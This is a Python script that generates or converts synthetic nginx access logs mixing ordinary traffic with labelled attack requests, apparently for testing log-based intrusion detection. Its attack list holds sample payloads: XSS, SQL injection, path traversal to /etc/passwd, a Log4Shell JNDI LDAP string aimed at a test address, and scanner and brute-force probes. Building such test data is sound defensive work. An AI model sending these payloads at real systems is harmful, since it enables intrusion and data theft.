"""nginx combined access logs: from the JSON lines of a labelled case, or generated from a seed."""

import argparse
import json
import random
import sys
import time

START = 1_700_000_000
LINES_PER_SECOND = 500
ATTACK_SHARE = 0.05
LINES_PER_CAMPAIGN = 5_000

AGENTS = [
    f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{major}.0.0.0"
    " Safari/537.36"
    for system in ("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X")
    for major in range(100, 120)
]
PAGES = ["", "cart", "checkout", "login", "search", "account", "help", "orders"]
STATIC = ["js", "css", "png", "svg", "woff2"]
# Each attack: method, path (with a number that makes it distinct), status, user agent.
BROWSER = AGENTS[0]
ATTACKS = [
    ("GET", "/phpmyadmin/{n}/index.php", 404, BROWSER),
    ("GET", "/backup-{n}/.env", 404, BROWSER),
    ("POST", "/login?try={n}", 401, BROWSER),
    ("GET", "/search?q=<script>alert({n})</script>", 200, BROWSER),
    ("GET", "/product?id={n}%20UNION%20ALL%20SELECT%20NULL", 200, BROWSER),
    ("GET", "/static/{n}/../../../../etc/passwd", 400, BROWSER),
    ("GET", "/?x={n}", 200, "${{jndi:ldap://198.18.0.1/{n}}}"),
    ("GET", "/page/{n}", 200, "Mozilla/5.00 (Nikto/2.1.6)"),
]


def escape(value):
    text = str(value) or "-"
    return text.replace("\\", "\\x5C").replace('"', "\\x22")


def combined(request):
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(request["time"]))
    field = {name: escape(value) for name, value in request.items()}
    return (
        f'{field["client"]} - - [{stamp}]'
        f' "{field["method"]} {field["path"]} {field["protocol"]}"'
        f' {field["status"]} {field["responseBytes"]} "{field["referer"]}" "{field["userAgent"]}"'
    )


def case(path):
    with open(path) as lines:
        return sorted(map(json.loads, lines), key=lambda request: request["time"])


def benign(random, number):
    if random.random() < 0.5:
        path = f"/static/{random.randrange(2_000)}.{random.choice(STATIC)}"
    else:
        path = f"/{random.choice(PAGES)}?item={random.randrange(50_000)}&visit={number}"
    return {
        "client": f"198.18.{random.randrange(20)}.{random.randrange(256)}",
        "method": "POST" if random.random() < 0.1 else "GET",
        "path": path,
        "status": random.choices([200, 304, 302, 404, 500], [90, 5, 3, 1.5, 0.5])[0],
        "userAgent": random.choice(AGENTS),
    }


def hostile(random, number):
    kind = random.randrange(len(ATTACKS))
    method, path, status, agent = ATTACKS[kind]
    return {
        "client": f"198.19.{number // LINES_PER_CAMPAIGN % 256}.{kind}",
        "method": method,
        "path": path.format(n=number),
        "status": status,
        "userAgent": agent.format(n=number),
    }


def generate(count, seed):
    source = random.Random(seed)
    for number in range(count):
        make = hostile if source.random() < ATTACK_SHARE else benign
        yield make(source, number) | {
            "time": START + number // LINES_PER_SECOND,
            "protocol": "HTTP/1.1",
            "responseBytes": source.randrange(200, 60_000),
            "referer": "-",
        }


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    commands = parser.add_subparsers(dest="command", required=True)
    converting = commands.add_parser("convert")
    converting.add_argument("case", help="a file of requests, one JSON object a line")
    generating = commands.add_parser("generate")
    generating.add_argument("--lines", type=int, default=200_000)
    generating.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    converts = options.command == "convert"
    requests = case(options.case) if converts else generate(options.lines, options.seed)
    sys.stdout.writelines(combined(request) + "\n" for request in requests)


if __name__ == "__main__":
    main()
